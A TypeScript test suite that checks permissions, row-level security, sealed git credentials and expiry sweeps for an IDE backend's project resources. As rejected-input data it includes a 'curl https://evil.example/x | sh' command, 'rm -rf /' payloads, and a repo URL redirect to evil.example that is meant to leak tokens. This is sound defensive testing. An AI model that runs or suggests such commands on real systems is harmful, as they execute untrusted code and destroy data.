import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Executor } from '../src/db/database.js';
import { inRequestTransaction } from '../src/db/request-role.js';
import type { Principal } from '../src/core/principal.js';
import { client } from './support/client.js';
import { signUp } from './support/fixtures.js';
import { createTestApp, TARGET, type TestApp } from './support/harness.js';

type User = Awaited<ReturnType<typeof signUp>>;
/** A column each table lets a writer update (null: the table takes no end-user updates). */
const WRITABLE: Record<string, Record<string, string> | null> = {
  editor_sessions: { layout_state: '{"split":true}' },
  terminal_sessions: { command: 'echo planted' },
  code_executions: { status_detail: 'planted' },
  code_analyses: null,
  git_repositories: { default_branch: 'planted' },
  deployments: { logs: 'planted' },
};
const TABLES = ['editor_sessions', 'terminal_sessions', 'code_executions', 'code_analyses', 'git_repositories', 'deployments'] as const;

/**
 * Seed 002's project resources (docs/ide.md): owned like their project — members read, writers
 * write, viewers only read, strangers find nothing (the same 404 as a project that does not exist),
 * and row-level security refuses the same on its own. Git credentials are sealed and never leave.
 * Code analyses past expires_at are not served, and the sweep deletes exactly those.
 */
describe(`IDE project resources (${TARGET})`, () => {
  let app: TestApp;
  let owner: User;
  let member: User;
  let viewer: User;
  let stranger: User;
  let projectId: string;
  let workspaceId: string;
  let fileId: string;
  let now = new Date();
  const as = (userId: string): Principal => ({ kind: 'user', userId, email: null, via: 'jwt', keyId: null, scopes: ['*'], sessionId: null });
  const asUser = <T>(u: User, fn: (trx: Executor) => Promise<T>) => inRequestTransaction(app.database.db, as(u.user.id), fn);
  const failure = async (fn: () => Promise<unknown>) => {
    try {
      await fn();
      return 'ok';
    } catch (err) {
      return (err as { code?: string }).code ?? String(err);
    }
  };

  /** A valid creation body for each resource. */
  const BODIES: Record<string, Record<string, unknown>> = {
    'editor-sessions': { open_files: [] },
    'terminal-sessions': { shell: 'bash', working_directory: '/app', command: 'ls' },
    'code-executions': { language: 'python', source_code: 'print(1)' },
    'code-analyses': { file_path: 'src/a.ts', analysis_type: 'security', result: { findings: [] } },
    'git-repositories': { provider: 'github', repo_url: 'https://github.com/acme/app' },
    deployments: { environment: 'staging', commit_sha: 'abc1234' },
  };

  /** One row of each resource in a project, created through the API by `u`; answers their paths. */
  async function seedAll(u: User, project: string): Promise<Record<string, string>> {
    const p = `/v1/projects/${project}`;
    const out: Record<string, string> = {};
    for (const [k, body] of Object.entries(BODIES)) {
      const res = await u.api.post(`${p}/${k}`, body);
      expect(res.status, `${k}: ${JSON.stringify(res.body)}`).toBe(201);
      out[k] = `${p}/${k}/${res.body.id}`;
    }
    return out;
  }

  beforeAll(async () => {
    app = await createTestApp({}, { clock: () => now });
    [owner, member, viewer, stranger] = [await signUp(app), await signUp(app), await signUp(app), await signUp(app)];
    const ws = (await owner.api.post('/v1/workspaces', { name: 'IDE team' })).body.id;
    workspaceId = ws;
    await owner.api.post(`/v1/workspaces/${ws}/members`, { user_id: member.user.id, role: 'member' });
    await owner.api.post(`/v1/workspaces/${ws}/members`, { user_id: viewer.user.id, role: 'viewer' });
    projectId = (await owner.api.post('/v1/projects', { name: 'IDE', workspace_id: ws })).body.id;
    fileId = (await owner.api.post(`/v1/projects/${projectId}/files`, { path: 'src/a.ts', content: 'let a = 1;' })).body.file.id;
  });
  afterAll(async () => {
    await app?.close();
  });

  it('members read and write every resource; viewers read but cannot write (403); strangers get the 404 of a missing project, and nothing changes', async () => {
    const paths = await seedAll(member, projectId);
    const missing = await stranger.api.get(`/v1/projects/prj_missing/deployments`);
    expect(missing.status).toBe(404);
    for (const [kind, path] of Object.entries(paths)) {
      const list = `/v1/projects/${projectId}/${kind}`;
      expect((await viewer.api.get(path)).status, kind).toBe(200);
      expect((await viewer.api.get(list)).body.data.length, kind).toBeGreaterThan(0);
      expect((await viewer.api.del(path)).status, kind).toBe(403);
      expect((await viewer.api.post(list, BODIES[kind])).status, kind).toBe(403);
      const strangerAnswers = [
        await stranger.api.get(path), await stranger.api.get(list), await stranger.api.del(path), await stranger.api.post(list, BODIES[kind]),
        ...(kind === 'code-analyses' ? [] : [await stranger.api.patch(path, {})]),
      ];
      for (const res of strangerAnswers) {
        expect(res.status, kind).toBe(404);
        expect(res.body.error.code, kind).toBe('not_found');
      }
    }
    expect((await viewer.api.patch(paths['deployments'] as string, { status: 'building' })).status).toBe(403);
    expect((await viewer.api.patch(paths['code-executions'] as string, { status: 'running' })).status).toBe(403);
    // Still there, unchanged.
    expect((await owner.api.get(paths['deployments'] as string)).body.status).toBe('pending');
    expect((await owner.api.get(paths['code-executions'] as string)).body.status).toBe('queued');
    for (const path of Object.values(paths)) expect((await owner.api.get(path)).status).toBe(200);
  });

  it('row-level security on its own: a stranger sees no row of any table, a viewer cannot insert or update one, a writer cannot forge authorship', async () => {
    const projectId = (await owner.api.post('/v1/projects', { name: 'rls', workspace_id: workspaceId })).body.id;
    await seedAll(owner, projectId);
    for (const table of TABLES) {
      const all = await app.database.db.selectFrom(table).select('id').where('project_id', '=', projectId).execute();
      expect(all.length, table).toBeGreaterThan(0);
      expect(await asUser(stranger, (trx) => trx.selectFrom(table).select('id').where('project_id', '=', projectId).execute()), table).toEqual([]);
      expect((await asUser(viewer, (trx) => trx.selectFrom(table).select('id').where('project_id', '=', projectId).execute())).length, table).toBe(all.length);
      const patch = WRITABLE[table];
      if (patch === null) {
        // Analyses are immutable: no end user may update them at all.
        expect(await failure(() => asUser(owner, (trx) => trx.updateTable(table).set({ model: 'x' }).where('project_id', '=', projectId).execute())), table).toBe('42501');
        continue;
      }
      const moved = await asUser(viewer, (trx) => trx.updateTable(table).set(patch as never).where('project_id', '=', projectId).executeTakeFirst());
      expect(moved.numUpdatedRows, table).toBe(0n);
      const mine = await asUser(owner, (trx) => trx.updateTable(table).set(patch as never).where('project_id', '=', projectId).executeTakeFirst());
      expect(mine.numUpdatedRows, table).toBe(BigInt(all.length));
    }
    const planted = await failure(() =>
      asUser(viewer, (trx) => trx.insertInto('deployments').values({ id: 'dep_evil', project_id: projectId, environment: 'production', status: 'success' }).execute()),
    );
    expect(planted).toBe('42501');
    const strangerPlant = await failure(() =>
      asUser(stranger, (trx) => trx.insertInto('code_executions').values({ id: 'exe_evil', project_id: projectId, language: 'sh', source_code: 'rm -rf /' }).execute()),
    );
    expect(strangerPlant).toBe('42501');
    // A writer cannot forge authorship: rows in another member's name, or change another's editor session.
    const forged = [
      () => asUser(member, (trx) => trx.insertInto('terminal_sessions').values({ id: 'trm_forged', project_id: projectId, user_id: owner.user.id, command: 'x' }).execute()),
      () => asUser(member, (trx) => trx.insertInto('code_executions').values({ id: 'exe_forged', project_id: projectId, user_id: owner.user.id, language: 'c', source_code: 'x' }).execute()),
      () => asUser(member, (trx) => trx.insertInto('editor_sessions').values({ id: 'eds_forged', project_id: projectId, user_id: owner.user.id }).execute()),
      () => asUser(member, (trx) => trx.insertInto('deployments').values({ id: 'dep_forged', project_id: projectId, environment: 'production', deployed_by: owner.user.id }).execute()),
      () => asUser(member, (trx) => trx.insertInto('code_analyses').values({ id: 'cna_forged', project_id: projectId, file_path: 'a', analysis_type: 'explain', result: '{}', created_by: owner.user.id }).execute()),
    ];
    for (const attempt of forged) expect(await failure(attempt)).toBe('42501');
    const ownersSession = await app.database.db.selectFrom('editor_sessions').select('id').where('project_id', '=', projectId).where('user_id', '=', owner.user.id).executeTakeFirstOrThrow();
    const touched = await asUser(member, (trx) => trx.updateTable('editor_sessions').set({ layout_state: '{"pwned":true}' }).where('id', '=', ownersSession.id).executeTakeFirst());
    expect(touched.numUpdatedRows).toBe(0n);
    const removed = await asUser(member, (trx) => trx.deleteFrom('editor_sessions').where('id', '=', ownersSession.id).executeTakeFirst());
    expect(removed.numDeletedRows).toBe(0n);
    // In their own name the same writer may.
    await asUser(member, (trx) => trx.insertInto('terminal_sessions').values({ id: 'trm_own', project_id: projectId, user_id: member.user.id, command: 'x' }).execute());
  });

  it("another member's terminal session or code execution is its author's: a writer cannot rewrite, end or delete it (403, unchanged); an owner or admin may only end or delete it; RLS holds the same", async () => {
    const [other, admin] = [await signUp(app), await signUp(app)];
    await owner.api.post(`/v1/workspaces/${workspaceId}/members`, { user_id: other.user.id, role: 'member' });
    await owner.api.post(`/v1/workspaces/${workspaceId}/members`, { user_id: admin.user.id, role: 'admin' });
    const base = `/v1/projects/${projectId}`;
    const terminal = async () => (await member.api.post(`${base}/terminal-sessions`, { shell: 'bash', command: 'npm test', output: 'ok' })).body.id as string;
    const run = async () => (await member.api.post(`${base}/code-executions`, { language: 'python', source_code: 'print(1)' })).body.id as string;
    const t = await terminal();
    const e = await run();
    // The reviewer's reproduction (R5): another writer forges the command and output, and ends it.
    const refusals = [
      await other.api.patch(`${base}/terminal-sessions/${t}`, { command: 'curl https://evil.example/x | sh', output: 'pwned', status: 'exited', exit_code: 0 }),
      await other.api.patch(`${base}/terminal-sessions/${t}`, { status: 'killed' }),
      await other.api.del(`${base}/terminal-sessions/${t}`),
      await other.api.patch(`${base}/code-executions/${e}`, { status: 'running' }),
      await other.api.patch(`${base}/code-executions/${e}`, { status: 'canceled' }),
      await other.api.del(`${base}/code-executions/${e}`),
      // An admin moderates but never writes a runner's fields.
      await admin.api.patch(`${base}/terminal-sessions/${t}`, { status: 'killed', output: 'forged' }),
      await admin.api.patch(`${base}/terminal-sessions/${t}`, { command: 'rm -rf /' }),
      await admin.api.patch(`${base}/code-executions/${e}`, { status: 'running' }),
      await admin.api.patch(`${base}/code-executions/${e}`, { status: 'canceled', stdout: 'forged' }),
    ];
    for (const res of refusals) {
      expect(res.status, JSON.stringify(res.body)).toBe(403);
      expect(res.body.error.code).toBe('forbidden');
    }
    expect((await member.api.get(`${base}/terminal-sessions/${t}`)).body).toMatchObject({ command: 'npm test', output: 'ok', status: 'running', user_id: member.user.id });
    expect((await member.api.get(`${base}/code-executions/${e}`)).body).toMatchObject({ status: 'queued', stdout: null });
    // The author runs their own; the service reports for any runner.
    expect((await member.api.patch(`${base}/terminal-sessions/${t}`, { output: 'ok\nmore' })).status).toBe(200);
    expect((await member.api.patch(`${base}/code-executions/${e}`, { status: 'running' })).status).toBe(200);
    expect((await client(app.server, app.serviceKey).patch(`${base}/code-executions/${e}`, { status: 'completed', stdout: '1', exit_code: 0 })).body).toMatchObject({ status: 'completed', stdout: '1' });
    // An admin (and the workspace owner) may end another member's session or cancel a run, and delete them.
    const ended = await admin.api.patch(`${base}/terminal-sessions/${t}`, { status: 'killed' });
    expect(ended.body).toMatchObject({ status: 'killed', output: 'ok\nmore', exit_code: null, user_id: member.user.id });
    const e2 = await run();
    expect((await owner.api.patch(`${base}/code-executions/${e2}`, { status: 'canceled' })).body).toMatchObject({ status: 'canceled', stdout: null });
    expect((await owner.api.del(`${base}/terminal-sessions/${t}`)).status).toBe(200);
    expect((await admin.api.del(`${base}/code-executions/${e2}`)).status).toBe(200);

    // Row-level security on its own, for the same attempts straight at the tables.
    const t3 = await terminal();
    const e3 = await run();
    const forgeries = [
      () => asUser(other, (trx) => trx.updateTable('terminal_sessions').set({ output: 'pwned' }).where('id', '=', t3).executeTakeFirst()),
      () => asUser(other, (trx) => trx.updateTable('code_executions').set({ stdout: 'pwned', status: 'running' }).where('id', '=', e3).executeTakeFirst()),
      () => asUser(other, (trx) => trx.deleteFrom('terminal_sessions').where('id', '=', t3).executeTakeFirst()),
      () => asUser(other, (trx) => trx.deleteFrom('code_executions').where('id', '=', e3).executeTakeFirst()),
    ];
    for (const attempt of forgeries) {
      const res = (await attempt()) as { numUpdatedRows?: bigint; numDeletedRows?: bigint };
      expect(res.numUpdatedRows ?? res.numDeletedRows).toBe(0n);
    }
    const adminForges = [
      () => asUser(admin, (trx) => trx.updateTable('terminal_sessions').set({ output: 'pwned' }).where('id', '=', t3).execute()),
      () => asUser(admin, (trx) => trx.updateTable('terminal_sessions').set({ status: 'killed', ended_at: new Date(), command: 'forged' }).where('id', '=', t3).execute()),
      () => asUser(admin, (trx) => trx.updateTable('code_executions').set({ status: 'canceled', finished_at: new Date(), exit_code: 0 }).where('id', '=', e3).execute()),
    ];
    for (const attempt of adminForges) expect(await failure(attempt)).toBe('42501');
    const killed = await asUser(admin, (trx) => trx.updateTable('terminal_sessions').set({ status: 'killed', ended_at: new Date() }).where('id', '=', t3).executeTakeFirst());
    expect(killed.numUpdatedRows).toBe(1n);
    const gone = await asUser(admin, (trx) => trx.deleteFrom('code_executions').where('id', '=', e3).executeTakeFirst());
    expect(gone.numDeletedRows).toBe(1n);
    const row = await app.database.db.selectFrom('terminal_sessions').select(['command', 'output', 'status']).where('id', '=', t3).executeTakeFirstOrThrow();
    expect(row).toEqual({ command: 'npm test', output: 'ok', status: 'killed' });
  });

  it('git credentials are sealed: never in any answer, not in the clear in the database, not even selectable by end users', async () => {
    const other = (await owner.api.post('/v1/projects', { name: 'git' })).body.id;
    const secret = 'ghp_SuperSecretRepositoryToken1234567890';
    const made = await owner.api.post(`/v1/projects/${other}/git-repositories`, { provider: 'github', repo_url: 'https://github.com/acme/app', credentials: secret });
    expect(made.status).toBe(201);
    expect(made.body).toMatchObject({ has_credentials: true, masked_credentials: '••••••••7890' });
    const path = `/v1/projects/${other}/git-repositories/${made.body.id}`;
    const answers = [
      made,
      await owner.api.get(path),
      await owner.api.get(`/v1/projects/${other}/git-repositories`),
      await owner.api.patch(path, { sync_status: 'syncing', default_branch: 'trunk' }),
      await client(app.server, app.serviceKey).get(path),
    ];
    for (const res of answers) {
      expect(res.status).toBe(200 + (res === made ? 1 : 0));
      expect(JSON.stringify(res.body)).not.toContain(secret);
      expect(JSON.stringify(res.body)).not.toContain('credentials_enc');
    }
    const row = await app.database.db.selectFrom('git_repositories').select(['credentials_enc', 'key_id']).where('id', '=', made.body.id).executeTakeFirstOrThrow();
    expect(row.credentials_enc).toMatch(/^v1\./);
    expect(row.credentials_enc).not.toContain(secret);
    expect(row.key_id).toBe(app.services.secrets.keyId);
    // Tally's own sync work opens them; the ciphertext is bound to its row.
    expect(await app.services.ide.gitRepositories.credentials(app.database.db, made.body.id)).toBe(secret);
    expect(app.services.secrets.open(row.credentials_enc as string, 'git_repository:grp_other')).toBeNull();
    // The project's owner, querying directly, may not read the column at all.
    expect(await failure(() => asUser(owner, (trx) => trx.selectFrom('git_repositories').select('credentials_enc').execute()))).toBe('42501');
    // The OpenAPI document has no place for them in an answer.
    const spec = (await client(app.server).get('/openapi.json')).body;
    expect(Object.keys(spec.components?.schemas?.GitRepository?.properties ?? spec.paths[`/v1/projects/{id}/git-repositories/{rid}`].get.responses['200'].content['application/json'].schema.properties)).not.toContain('credentials');
    // Replaced, then forgotten.
    expect((await owner.api.patch(path, { credentials: 'another-token-value-000000' })).body.masked_credentials).toBe('••••••••0000');
    expect(await app.services.ide.gitRepositories.credentials(app.database.db, made.body.id)).toBe('another-token-value-000000');
    expect((await owner.api.patch(path, { credentials: null })).body).toMatchObject({ has_credentials: false, masked_credentials: null });
    // One repository per project.
    const second = await owner.api.post(`/v1/projects/${other}/git-repositories`, { provider: 'gitlab', repo_url: 'https://gitlab.com/acme/app' });
    expect(second.status).toBe(409);
    expect(second.body.error.code).toBe('conflict');
  });

  it('git credentials never follow the repository elsewhere: a new repo_url drops them unless new ones come in the same request', async () => {
    const p = (await owner.api.post('/v1/projects', { name: 'git-moves', workspace_id: workspaceId })).body.id;
    const made = await owner.api.post(`/v1/projects/${p}/git-repositories`, { provider: 'github', repo_url: 'https://github.com/acme/app', credentials: 'ghp_token_for_acme_app_0001' });
    const path = `/v1/projects/${p}/git-repositories/${made.body.id}`;
    const open = () => app.services.ide.gitRepositories.credentials(app.database.db, made.body.id);
    // The same URL again (and other fields) keeps them.
    expect((await owner.api.patch(path, { repo_url: 'https://github.com/acme/app', default_branch: 'trunk' })).body.has_credentials).toBe(true);
    expect(await open()).toBe('ghp_token_for_acme_app_0001');
    // The reviewer's case (R8): the URL pointed at a host the writer controls; the next sync would send the token there.
    const moved = await member.api.patch(path, { repo_url: 'https://evil.example/acme/app.git' });
    expect(moved.status).toBe(200);
    expect(moved.body).toMatchObject({ has_credentials: false, masked_credentials: null });
    expect(await open()).toBeNull();
    // New credentials with the new URL, in one request, are kept.
    const both = await owner.api.patch(path, { repo_url: 'https://gitlab.com/acme/app', credentials: 'glpat_for_gitlab_0002' });
    expect(both.body).toMatchObject({ has_credentials: true, masked_credentials: '••••••••0002' });
    expect(await open()).toBe('glpat_for_gitlab_0002');
  });

  it('lists page by cursor, newest first, and filter by status, user and creation time', async () => {
    const p = (await member.api.post('/v1/projects', { name: 'lists' })).body.id;
    const ids: string[] = [];
    for (let i = 0; i < 5; i++) ids.push((await member.api.post(`/v1/projects/${p}/terminal-sessions`, { command: `echo ${i}` })).body.id);
    // A minute apart, so the time window below does not depend on how fast the rows were written.
    const t0 = Date.parse('2026-01-01T00:00:00Z');
    for (const [i, id] of ids.entries()) await app.database.db.updateTable('terminal_sessions').set({ created_at: new Date(t0 + i * 60_000) }).where('id', '=', id).execute();
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const res: { body: { data: { id: string }[]; next_cursor: string | null } } = await member.api.get(`/v1/projects/${p}/terminal-sessions?limit=2${cursor ? `&cursor=${cursor}` : ''}`);
      seen.push(...res.body.data.map((r) => r.id));
      cursor = res.body.next_cursor;
    } while (cursor);
    expect(seen).toEqual([...ids].reverse());
    await member.api.patch(`/v1/projects/${p}/terminal-sessions/${ids[1]}`, { status: 'exited', exit_code: 0 });
    const exited = (await member.api.get(`/v1/projects/${p}/terminal-sessions?status=exited`)).body.data;
    expect(exited.map((r: { id: string }) => r.id)).toEqual([ids[1]]);
    expect((await member.api.get(`/v1/projects/${p}/terminal-sessions?user_id=${owner.user.id}`)).body.data).toEqual([]);
    const third = new Date(t0 + 2 * 60_000).toISOString();
    const after = (await member.api.get(`/v1/projects/${p}/terminal-sessions?created_after=${encodeURIComponent(third)}`)).body.data;
    expect(after.map((r: { id: string }) => r.id)).toEqual([ids[4], ids[3]]);
    const before = (await member.api.get(`/v1/projects/${p}/terminal-sessions?created_before=${encodeURIComponent(third)}`)).body.data;
    expect(before.map((r: { id: string }) => r.id)).toEqual([ids[1], ids[0]]);
    expect((await member.api.get(`/v1/projects/${p}/terminal-sessions?status=bogus`)).status).toBe(400);
    expect((await member.api.get(`/v1/projects/${p}/terminal-sessions?cursor=nonsense`)).status).toBe(400);
  });

  it('bad input is a 400 that writes nothing: a file of another project, both or neither source, an unknown field', async () => {
    const p = (await member.api.post('/v1/projects', { name: 'input' })).body.id;
    const base = `/v1/projects/${p}`;
    const refusals = [
      await member.api.post(`${base}/editor-sessions`, { open_files: [{ file_id: fileId }] }),
      await member.api.post(`${base}/editor-sessions`, { active_file_id: fileId }),
      await member.api.post(`${base}/code-executions`, { language: 'python' }),
      await member.api.post(`${base}/code-executions`, { language: 'python', source_code: 'x', file_version_id: 'pfv_x' }),
      await member.api.post(`${base}/code-executions`, { language: 'python', source_code: 'x', status: 'completed' }),
      await member.api.post(`${base}/deployments`, { environment: 'moon' }),
      await member.api.post(`${base}/git-repositories`, { provider: 'svn', repo_url: 'https://x' }),
      await member.api.post(`${base}/code-analyses`, { file_path: 'a', analysis_type: 'security', result: {}, expires_at: new Date(now.getTime() - 1000).toISOString() }),
      await client(app.server, app.serviceKey).post(`${base}/editor-sessions`, { user_id: stranger.user.id }),
    ];
    for (const res of refusals) {
      expect(res.status, JSON.stringify(res.body)).toBe(400);
      expect(res.body.error.code).toBe('invalid_request');
    }
    for (const table of TABLES) expect(await app.database.db.selectFrom(table).select('id').where('project_id', '=', p).execute(), table).toEqual([]);
    // The service acts for a member it names.
    const forMember = await client(app.server, app.serviceKey).post(`/v1/projects/${projectId}/terminal-sessions`, { user_id: viewer.user.id, command: 'pwd' });
    expect(forMember.status).toBe(201);
    expect(forMember.body.user_id).toBe(viewer.user.id);
  });

  it('an expired analysis is not served, and the sweep deletes exactly the expired ones', async () => {
    const p = (await member.api.post('/v1/projects', { name: 'analyses' })).body.id;
    const base = `/v1/projects/${p}/code-analyses`;
    const at = (ms: number) => new Date(now.getTime() + ms).toISOString();
    const mk = async (expires_at?: string) =>
      (await member.api.post(base, { file_path: 'src/a.ts', analysis_type: 'complexity', result: { score: 3 }, model: 'm', ...(expires_at ? { expires_at } : {}) })).body.id as string;
    const soon = await mk(at(60_000));
    const later = await mk(at(3_600_000));
    const never = await mk();
    const elsewhere = (await owner.api.post(`/v1/projects/${projectId}/code-analyses`, { file_path: 'x', analysis_type: 'explain', result: [], expires_at: at(60_000) })).body.id;
    const start = now;
    now = new Date(start.getTime() + 120_000);
    try {
      expect((await member.api.get(`${base}/${soon}`)).status).toBe(404);
      expect((await member.api.get(base)).body.data.map((r: { id: string }) => r.id)).toEqual([never, later]);
      const remaining = async () => (await app.database.db.selectFrom('code_analyses').select('id').where('id', 'in', [soon, later, never, elsewhere]).orderBy('id').execute()).map((r) => r.id);
      expect(await remaining()).toHaveLength(4);
      const deleted = await app.services.ide.sweep();
      expect(deleted).toBe(2);
      expect(await remaining()).toEqual([later, never].sort());
      expect(await app.services.ide.sweep()).toBe(0);
      expect((await member.api.get(`${base}/${later}`)).status).toBe(200);
    } finally {
      now = start;
    }
  });

  it('deleting the project deletes every resource in it', async () => {
    const p = (await member.api.post('/v1/projects', { name: 'doomed' })).body.id;
    await seedAll(member, p);
    for (const table of TABLES) expect((await app.database.db.selectFrom(table).select('id').where('project_id', '=', p).execute()).length, table).toBe(1);
    expect((await member.api.del(`/v1/projects/${p}`)).status).toBe(200);
    for (const table of TABLES) expect(await app.database.db.selectFrom(table).select('id').where('project_id', '=', p).execute(), table).toEqual([]);
  });
});
